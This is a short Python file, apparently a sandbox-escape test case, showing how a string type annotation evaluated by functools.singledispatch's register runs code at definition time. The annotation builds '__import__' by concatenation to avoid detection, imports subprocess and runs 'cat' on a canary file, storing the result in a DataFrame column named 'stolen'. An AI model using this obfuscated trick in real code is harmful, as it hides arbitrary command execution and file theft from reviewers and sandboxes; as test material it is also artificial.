# class: decorator_abuse
# technique: @dispatcher.register (functools.singledispatch) reads the first parameter's annotation through get_type_hints: a string annotation runs code at definition time
# goal: exec
import functools

import numpy as np
import pandas as pd

imp = "_" * 2 + "import" + "_" * 2
out = []


@functools.singledispatch
def fmt(value):
    return str(value)


@fmt.register
def fmt_float(value: "[out.append(eval(imp)('subprocess').getoutput('cat {{CANARY_FILE}}')), float][-1]"):
    return f"{value:.2f}"


df = pd.DataFrame({"stolen": out})
